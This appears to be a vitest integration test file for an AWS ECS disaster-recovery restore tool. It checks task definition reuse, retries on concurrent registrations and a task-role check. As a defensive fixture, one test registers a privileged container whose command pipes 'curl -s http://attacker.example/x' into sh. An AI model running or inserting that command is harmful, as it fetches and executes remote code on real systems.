import {
  CreateClusterCommand,
  DescribeServicesCommand,
  DescribeTaskDefinitionCommand,
  ListTaskDefinitionsCommand,
  RegisterTaskDefinitionCommand,
  type RegisterTaskDefinitionCommandInput,
} from '@aws-sdk/client-ecs';
import { beforeAll, describe, expect, it } from 'vitest';
import { AwsClients } from '../../src/aws/clients';
import { awsErrorCode } from '../../src/aws/errors';
import { catalogStoreFor } from '../../src/catalog/aws/store';
import { restoreRunKey } from '../../src/catalog/keys';
import type { Manifest, RegisterTaskDefinitionInputRecord } from '../../src/catalog/manifest';
import { ensureLocalReportTopic } from '../../src/cli/aws/local-resources';
import { runLocalRestore } from '../../src/cli/runners/local-restore';
import { type LifeboatConfig, parseConfig } from '../../src/config/schema';
import { restoreConfigOf } from '../../src/config/settings';
import { sameTaskDefinition } from '../../src/fleet/task-definition-equality';
import { createRestoreContext } from '../../src/restore/context';
import { TaskDefinitionRegistrationError } from '../../src/restore/errors';
import type { RestorePlan } from '../../src/restore/plan';
import { rolesNamedBy } from '../../src/restore/prepare';
import type { ReportResult } from '../../src/restore/report';
import type { RestoreRun, SharedResources } from '../../src/restore/runs';
import { ensureTaskDefinition, REGISTER_ATTEMPTS, restoreService } from '../../src/restore/service';
import { ensureTestCatalog } from '../support/catalog';
import { BUCKET } from '../support/demo-fleet';
import { useEmulator } from '../support/emulator';
import { startFaultProxy } from '../support/fault-proxy';
import { ACCOUNT, DR, ManifestBuilder, PRIMARY, RECOVERY_POINT_ID } from '../support/manifest-builder';

/**
 * Which task definition revision a restore runs in the DR region, on the emulator: a revision
 * already there is reused only when it is the retargeted definition itself (issue 14, finding
 * 4); a registration ECS refuses because of concurrent registrations of the family is retried;
 * a plan that would pass a role the recovery point does not name registers nothing.
 */

const ctx = useEmulator({ MOTO_ECS_SERVICE_RUNNING: '10' });
let config: LifeboatConfig;
let topicArn: string;
let manifest: Manifest;
/** The plan of the recovery point (a dry run's), with the retargeted register inputs. */
let plan: RestorePlan;

const TASK_ROLE = `arn:aws:iam::${ACCOUNT}:role/guarded-api-task`;
/** What ECS answers a registration that races others of its family. */
const CONCURRENT = {
  code: 'ClientException',
  message: 'Too many concurrent attempts to create a new revision of the specified family.',
  httpStatus: 400,
};

/** A task definition the emulator accepts (it wants a memory setting per container). */
const REGISTER_INPUT = {
  containerDefinitions: [
    { name: 'app', image: 'docker.io/library/nginx:1.27', essential: true, memory: 512 },
  ],
};

function run(input: unknown, executionName: string) {
  return runLocalRestore({
    clients: ctx.clients,
    config,
    bucket: BUCKET,
    topicArn,
    input,
    executionName,
    waitTimeScale: 0,
  });
}

function registerInputOf(key: string): RegisterTaskDefinitionInputRecord {
  const input = plan.services.find((s) => s.key === key)?.taskDefinition?.registerInput;
  if (!input) throw new Error(`the plan has no task definition for ${key}`);
  return input;
}

/** ARNs of the family's revisions in the DR region, oldest first. */
async function revisions(family: string): Promise<string[]> {
  const res = await ctx.clients.ecs(DR).send(new ListTaskDefinitionsCommand({ familyPrefix: family }));
  return (res.taskDefinitionArns ?? []).filter((arn) => arn.includes(`:task-definition/${family}:`));
}

/** The task definition ARN the DR service runs; undefined when there is no such service. */
async function runningTaskDefinition(cluster: string, name: string): Promise<string | undefined> {
  try {
    const res = await ctx.clients.ecs(DR).send(new DescribeServicesCommand({ cluster, services: [name] }));
    return res.services?.find((s) => s.serviceName === name && s.status === 'ACTIVE')?.taskDefinition;
  } catch (error) {
    if (awsErrorCode(error) === 'ClusterNotFoundException') return undefined;
    throw error;
  }
}

beforeAll(async () => {
  await ensureTestCatalog(ctx.clients, DR, BUCKET);
  topicArn = await ensureLocalReportTopic(ctx.clients, DR);
  config = parseConfig({ account: ACCOUNT, primaryRegion: PRIMARY, drRegion: DR });
  manifest = new ManifestBuilder()
    .service('shop/web', { registerInput: REGISTER_INPUT })
    .service('guarded/api', { registerInput: { ...REGISTER_INPUT, taskRoleArn: TASK_ROLE } })
    .build();
  await catalogStoreFor(ctx.clients, { region: DR, bucket: BUCKET }).commit(manifest);
  const dryRun = await run({ dryRun: true, recoveryPoint: RECOVERY_POINT_ID }, 'task-definitions-plan');
  expect(dryRun.status, dryRun.cause).toBe('SUCCEEDED');
  plan = (dryRun.output as { plan: RestorePlan }).plan;
}, 120_000);

describe('restore of task definitions on the emulator', () => {
  it('registers its own revision when the latest DR revision adds privileged: true and a command, and reuses that one on a re-run', async () => {
    const wanted = registerInputOf('shop/web');
    const [app, ...others] = wanted.containerDefinitions;
    // A revision that contains the recovery point's definition, and more: the latest ACTIVE one.
    const hostile = await ctx.clients.ecs(DR).send(
      new RegisterTaskDefinitionCommand({
        ...wanted,
        containerDefinitions: [
          { ...app, privileged: true, command: ['sh', '-c', 'curl -s http://attacker.example/x | sh'] },
          ...others,
        ],
      } as RegisterTaskDefinitionCommandInput),
    );
    const hostileArn = hostile.taskDefinition?.taskDefinitionArn as string;
    expect(await revisions(wanted.family)).toEqual([hostileArn]);

    const first = await run(
      { dryRun: false, recoveryPoint: RECOVERY_POINT_ID, services: ['shop/web'] },
      'td-1',
    );

    expect(first.status, first.cause).toBe('SUCCEEDED');
    const [web] = (first.output as ReportResult).report.services;
    expect(web).toMatchObject({ service: 'shop/web', status: 'created', taskDefinition: 'registered' });
    expect(web?.taskDefinitionArn).not.toBe(hostileArn);
    expect(await runningTaskDefinition('shop', 'web')).toBe(web?.taskDefinitionArn);
    const running = await ctx.clients
      .ecs(DR)
      .send(new DescribeTaskDefinitionCommand({ taskDefinition: web?.taskDefinitionArn }));
    expect(running.taskDefinition?.containerDefinitions?.[0]).not.toHaveProperty('privileged');
    expect(running.taskDefinition?.containerDefinitions?.[0]).not.toHaveProperty('command');
    expect(sameTaskDefinition(wanted, running.taskDefinition ?? {})).toBe(true);
    const afterFirst = await revisions(wanted.family);
    expect(afterFirst).toEqual([hostileArn, web?.taskDefinitionArn]);

    const second = await run(
      { dryRun: false, recoveryPoint: RECOVERY_POINT_ID, services: ['shop/web'] },
      'td-2',
    );

    expect(second.status, second.cause).toBe('SUCCEEDED');
    expect((second.output as ReportResult).report.services).toMatchObject([
      {
        service: 'shop/web',
        status: 'unchanged',
        taskDefinition: 'reused',
        taskDefinitionArn: web?.taskDefinitionArn,
      },
    ]);
    expect(await revisions(wanted.family)).toEqual(afterFirst);
  });

  it(`retries a registration ECS refuses for concurrent registrations of the family, and registers one revision`, async () => {
    const input = { family: 'concurrent-web', ...REGISTER_INPUT };
    const proxy = await startFaultProxy({
      target: ctx.endpoint,
      seed: 14,
      rules: [
        {
          match: 'ECS.RegisterTaskDefinition',
          awsError: CONCURRENT,
          maxFaultsPerRequest: REGISTER_ATTEMPTS - 1,
        },
      ],
    });
    const clients = new AwsClients({ endpoint: proxy.endpoint });
    const waits: number[] = [];
    try {
      const result = await ensureTaskDefinition(
        { clients, region: DR, sleep: async (ms) => void waits.push(ms) },
        input,
      );

      expect(result.action).toBe('registered');
      expect(await revisions('concurrent-web')).toEqual([result.arn]);
      expect(proxy.stats().calls['ECS.RegisterTaskDefinition']).toBe(REGISTER_ATTEMPTS);
      expect(proxy.stats().faults['aws-error']).toBe(REGISTER_ATTEMPTS - 1);
      expect(waits).toHaveLength(REGISTER_ATTEMPTS - 1);
    } finally {
      clients.destroy();
      await proxy.stop();
    }
  });

  it('leaves one revision when the answers of registrations ECS carried out are lost and the SDK registers again', async () => {
    const input = { family: 'lost-answer-web', ...REGISTER_INPUT };
    const proxy = await startFaultProxy({
      target: ctx.endpoint,
      seed: 14,
      // ECS registers, the answer never arrives: the SDK's retry registers the same definition again.
      rules: [
        { match: 'ECS.RegisterTaskDefinition', drop: 1, dropPhases: ['response'], maxFaultsPerRequest: 2 },
      ],
    });
    const clients = new AwsClients({ endpoint: proxy.endpoint });
    try {
      const result = await ensureTaskDefinition({ clients, region: DR, sleep: async () => {} }, input);

      expect(proxy.stats().calls['ECS.RegisterTaskDefinition']).toBe(3);
      expect(result.action).toBe('registered');
      expect(result.arn).toMatch(/lost-answer-web:1$/);
      expect(await revisions('lost-answer-web')).toEqual([result.arn]);
    } finally {
      clients.destroy();
      await proxy.stop();
    }
  });

  it('reuses the revision it kept after collapsing lost-answer duplicates on the next run (regression: faults-restore)', async () => {
    const input = { family: 'lost-answer-rerun', ...REGISTER_INPUT };
    const proxy = await startFaultProxy({
      target: ctx.endpoint,
      seed: 15,
      rules: [
        { match: 'ECS.RegisterTaskDefinition', drop: 1, dropPhases: ['response'], maxFaultsPerRequest: 1 },
      ],
    });
    const clients = new AwsClients({ endpoint: proxy.endpoint });
    try {
      const first = await ensureTaskDefinition({ clients, region: DR, sleep: async () => {} }, input);
      // Revision 2 (the duplicate) is now INACTIVE; the emulator's DescribeTaskDefinition by family
      // answers it rather than the latest ACTIVE revision, as ECS does.
      const again = await ensureTaskDefinition(
        { clients: ctx.clients, region: DR, sleep: async () => {} },
        input,
      );
      expect(again).toEqual({ arn: first.arn, action: 'reused' });
      expect(await revisions('lost-answer-rerun')).toEqual([first.arn]);
    } finally {
      clients.destroy();
      await proxy.stop();
    }
  });

  it(`fails with TaskDefinitionRegistrationError after ${REGISTER_ATTEMPTS} refused registrations, registering nothing`, async () => {
    const input = { family: 'contended-web', ...REGISTER_INPUT };
    const proxy = await startFaultProxy({
      target: ctx.endpoint,
      seed: 14,
      rules: [{ match: 'ECS.RegisterTaskDefinition', awsError: CONCURRENT }],
    });
    const clients = new AwsClients({ endpoint: proxy.endpoint });
    try {
      const attempt = ensureTaskDefinition({ clients, region: DR, sleep: async () => {} }, input);

      await expect(attempt).rejects.toBeInstanceOf(TaskDefinitionRegistrationError);
      await expect(attempt).rejects.toThrow(`after ${REGISTER_ATTEMPTS} attempts`);
      expect(proxy.stats().calls['ECS.RegisterTaskDefinition']).toBe(REGISTER_ATTEMPTS);
      expect(await revisions('contended-web')).toEqual([]);
    } finally {
      clients.destroy();
      await proxy.stop();
    }
  });

  it('fails a service whose plan names a task role the recovery point does not, registering no revision and creating no service', async () => {
    const execution = 'td-role-check';
    const restore = createRestoreContext(ctx.clients, { config: restoreConfigOf(config), bucket: BUCKET });
    const planned = plan.services.find((s) => s.key === 'guarded/api');
    if (!planned?.taskDefinition) throw new Error('the plan has no guarded/api service');
    const intruder = `arn:aws:iam::${ACCOUNT}:role/intruder`;
    // The plan as Prepare stored it, then changed under it: the task role swapped.
    const run: RestoreRun = {
      executionName: execution,
      startedAt: '2026-03-01T13:00:00.000Z',
      plan: {
        ...plan,
        services: [
          {
            ...planned,
            taskDefinition: {
              ...planned.taskDefinition,
              registerInput: { ...planned.taskDefinition.registerInput, taskRoleArn: intruder },
            },
          },
        ],
      },
      allowedRoles: rolesNamedBy(manifest),
    };
    expect(run.allowedRoles).toEqual([TASK_ROLE]);
    const shared: SharedResources = {
      accessPoints: {},
      targetGroups: {},
      failures: {},
      clustersCreated: [],
      logGroupsCreated: [],
    };
    await restore.runs.put(restoreRunKey(execution, 'plan'), run);
    await restore.runs.put(restoreRunKey(execution, 'shared'), shared);
    // The cluster exists, so only the role check stands between the plan and a running service.
    await ctx.clients.ecs(DR).send(new CreateClusterCommand({ clusterName: 'guarded' }));

    const result = await restoreService(restore, { executionName: execution, key: 'guarded/api' });

    expect(result).toMatchObject({
      service: 'guarded/api',
      status: 'failed',
      error: { name: 'RoleNotInRecoveryPointError' },
    });
    expect(result.error?.message).toContain(intruder);
    expect(result.taskDefinitionArn).toBeUndefined();
    expect(await revisions(planned.taskDefinition.family)).toEqual([]);
    expect(await runningTaskDefinition('guarded', 'api')).toBeUndefined();
  });
});
